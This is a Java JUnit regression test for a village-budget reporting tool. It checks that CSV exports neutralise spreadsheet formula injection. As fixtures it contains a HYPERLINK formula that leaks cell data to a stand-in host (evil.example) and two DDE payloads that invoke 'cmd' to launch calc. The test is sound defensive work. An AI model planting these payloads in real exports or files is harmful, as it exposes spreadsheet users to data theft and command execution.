package id.smartkampung.demo.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.google.common.collect.ImmutableSortedSet;
import id.smartkampung.core.budget.Apbdes;
import id.smartkampung.core.budget.BudgetItemKey;
import id.smartkampung.core.budget.BudgetJson;
import id.smartkampung.core.budget.BudgetLine;
import id.smartkampung.core.code.AccountCode;
import id.smartkampung.core.code.FundSource;
import id.smartkampung.core.code.KegiatanCode;
import id.smartkampung.core.csv.CsvDialect;
import id.smartkampung.core.journal.VillageBook;
import id.smartkampung.core.ledger.Operation.AgreeBudget;
import id.smartkampung.core.ledger.Operation.ApproveSpp;
import id.smartkampung.core.ledger.Operation.DraftBudget;
import id.smartkampung.core.ledger.Operation.EnactBudget;
import id.smartkampung.core.ledger.Operation.EvaluateBudget;
import id.smartkampung.core.ledger.Operation.PaySpp;
import id.smartkampung.core.ledger.Operation.ReceiveRevenue;
import id.smartkampung.core.ledger.Operation.RegisterOfficial;
import id.smartkampung.core.ledger.Operation.SubmitSpp;
import id.smartkampung.core.ledger.Operation.VerifySpp;
import id.smartkampung.core.ledger.OperationId;
import id.smartkampung.core.ledger.Outcome;
import id.smartkampung.core.ledger.SppType;
import id.smartkampung.core.money.Idr;
import id.smartkampung.core.official.Official;
import id.smartkampung.core.official.Role;
import id.smartkampung.core.official.SigningKey;
import id.smartkampung.demo.cli.ValidateCommandTest.Result;
import id.smartkampung.demo.report.ReportWriter;
import id.smartkampung.monitoring.Percent;
import id.smartkampung.monitoring.json.ProgressJson;
import id.smartkampung.monitoring.json.ProjectJson;
import id.smartkampung.monitoring.plan.PlannedCurve;
import id.smartkampung.monitoring.progress.ProgressReport;
import id.smartkampung.monitoring.project.Allocation;
import id.smartkampung.monitoring.project.Implementer;
import id.smartkampung.monitoring.project.OutputTarget;
import id.smartkampung.monitoring.project.Project;
import id.smartkampung.monitoring.site.GeoPoint;
import id.smartkampung.monitoring.site.Site;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;

/**
 * Regression (issue 19 item 5): a budget description, an operation id and a project name that a
 * spreadsheet would run as a formula ({@code =HYPERLINK(…)}, {@code @SUM(…)*cmd|…}, {@code
 * -2+3+cmd|…}) were written unchanged into the CSV exports of {@code report}. Through the command,
 * in both CSV formats: no cell of any export begins with {@code =}, {@code +}, {@code -}, {@code @},
 * tab or CR unless it is a number, and each payload is there, shown as text.
 */
class CsvInjectionTest {
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik\")";
  static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
  static final String MINUS = "-2+3+cmd|' /C calc'!A0";

  @TempDir static Path dir;
  static Path journal;

  @BeforeAll
  static void aJournalWithPayloads() throws Exception {
    Path d = Files.createDirectories(dir.resolve("desa"));
    journal = d.resolve("jurnal.jsonl");
    Apbdes example = BudgetJson.example();
    KegiatanCode jalan = KegiatanCode.parse("02.03.10");
    BudgetItemKey rabat = BudgetItemKey.of(jalan, AccountCode.parse("5.3.5.01"), FundSource.DDS);
    List<BudgetLine> lines = new ArrayList<>();
    for (BudgetLine l : example.lines()) {
      boolean target = l.itemKey().filter(rabat::equals).isPresent();
      lines.add(new BudgetLine(l.section(), l.account(), l.kegiatan(), target ? HYPERLINK : l.description(), l.amount(), l.fundSource(), l.output()));
    }
    Apbdes apbdes = Apbdes.of(example.village(), 2025, lines);
    Official kades = Official.of("kd", "Bambang Wijaya", Role.KEPALA_DESA);
    Official sekdes = Official.of("sd", "Siti Aminah", Role.SEKRETARIS_DESA);
    Official kaur = Official.of("kk", "Dewi Lestari", Role.KAUR_KEUANGAN);
    Official kasi = Official.of("pka", "Agus Santoso", Role.PELAKSANA_KEGIATAN);
    Official bupati = Official.of("ev", "Bagian Pemdes", Role.EVALUATOR_KABUPATEN);
    SigningKey key = SigningKey.generate();
    Instant t = Instant.parse("2024-12-02T02:00:00Z");
    Instant feb = Instant.parse("2025-02-12T02:00:00Z");
    try (VillageBook book = VillageBook.create(journal, apbdes.village(), 2025)) {
      List<Outcome> outcomes = new ArrayList<>();
      outcomes.add(book.apply(new RegisterOfficial(OperationId.of("r1"), kades, t, kades, ImmutableSortedSet.of(), key.publicKey().base64()), key));
      outcomes.add(book.apply(RegisterOfficial.of(OperationId.of("r2"), kades, t, sekdes, Set.of()), key));
      outcomes.add(book.apply(RegisterOfficial.of(OperationId.of("r3"), kades, t, kaur, Set.of()), key));
      outcomes.add(book.apply(RegisterOfficial.of(OperationId.of("r4"), kades, t, kasi, Set.of(jalan)), key));
      outcomes.add(book.apply(new DraftBudget(OperationId.of("b1"), sekdes, t, apbdes, "RAPBDes 2025")));
      outcomes.add(book.apply(new AgreeBudget(OperationId.of("b2"), kades, t, "BA BPD 07/2024"), key));
      outcomes.add(book.apply(new EvaluateBudget(OperationId.of("b3"), bupati, t, "Evaluasi 140/2024")));
      outcomes.add(book.apply(new EnactBudget(OperationId.of("b4"), kades, t, "Perdes 5/2024"), key));
      outcomes.add(book.apply(new ReceiveRevenue(OperationId.of(SUM), kaur, feb, AccountCode.parse("4.2.1.01"), FundSource.DDS, Idr.of(404_938_000), 1, "Tahap I")));
      outcomes.add(book.apply(new SubmitSpp(OperationId.of("spp1"), kasi, feb, SppType.LS, rabat, Idr.of(120_000_000), SUM, HYPERLINK)));
      outcomes.add(book.apply(new VerifySpp(OperationId.of("v1"), sekdes, feb, OperationId.of("spp1"))));
      outcomes.add(book.apply(new ApproveSpp(OperationId.of("a1"), kades, feb, OperationId.of("spp1")), key));
      outcomes.add(book.apply(new PaySpp(OperationId.of(MINUS), kaur, feb, OperationId.of("spp1"), ImmutableSortedSet.of(), "Transfer RKD")));
      outcomes.forEach(o -> assertTrue(o.findings().stream().noneMatch(f -> f.isError()), o.findings().toString()));
    }
    Project road = Project.builder()
        .id("jalan-sumberjo").name(HYPERLINK)
        .village(apbdes.village()).fiscalYear(2025)
        .allocation(Allocation.fromApbdes(apbdes, jalan))
        .output(OutputTarget.of("350", "m"))
        .site(Site.point(GeoPoint.of(-8.5937, 114.0231)))
        .plan(PlannedCurve.ofCumulative(LocalDate.of(2025, 1, 6), 7, Stream.of(0, 5, 15, 30, 50, 70, 85, 95, 100).map(Percent::of).toList()))
        .implementer(Implementer.tpk(MINUS))
        .build();
    Path m = Files.createDirectories(d.resolve(ReportWriter.MONITORING_DIR));
    Files.writeString(m.resolve("jalan-sumberjo.proyek.json"), ProjectJson.write(road), UTF_8);
    Files.writeString(m.resolve("jalan-sumberjo.laporan.json"),
        ProgressJson.write(road, List.of(ProgressReport.of(LocalDate.of(2025, 2, 10), Percent.of(10), MINUS))), UTF_8);
  }

  @ParameterizedTest
  @ValueSource(strings = {"spreadsheet", "plain"})
  void noExportedCellStartsAFormula(String format) throws Exception {
    Path out = dir.resolve("report-" + format);
    Result r = ValidateCommandTest.run("report", journal.toString(), "--out", out.toString(), "--csv", format);
    assertEquals(ExitCode.OK, r.code(), r.out() + r.err());
    CsvDialect dialect = format.equals("plain") ? CsvDialect.PLAIN : CsvDialect.SPREADSHEET_ID;
    StringBuilder all = new StringBuilder();
    int checked = 0;
    for (String name : List.of("realisasi-apbdes-2025.csv", "bku-2025.csv", "penilaian-proyek-2025.csv")) {
      String text = Files.readString(out.resolve(name), UTF_8);
      assertEquals(dialect.byteOrderMark(), text.startsWith("\uFEFF"), name);
      for (List<String> row : rows(dialect.byteOrderMark() ? text.substring(1) : text, dialect.separator())) {
        for (String cell : row) {
          checked++;
          boolean number = dialect.plainDecimal(cell).isPresent();
          assertFalse(!number && !cell.isEmpty() && CsvDialect.isFormulaStart(cell.charAt(0)), name + ": a cell starts a formula: " + cell);
          all.append(cell).append('\n');
        }
      }
    }
    assertTrue(checked > 50, "cells checked: " + checked);
    for (String payload : List.of(HYPERLINK, SUM, MINUS)) {
      assertTrue(all.toString().contains("'" + payload + "\n"), "the payload is shown as text: " + payload);
    }
  }

  private static List<List<String>> rows(String text, char separator) throws Exception {
    CsvMapper m = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<List<String>> it = m.readerForListOf(String.class).with(CsvSchema.emptySchema().withColumnSeparator(separator)).readValues(text)) {
      while (it.hasNext()) {
        rows.add(it.next());
      }
    }
    return rows;
  }
}
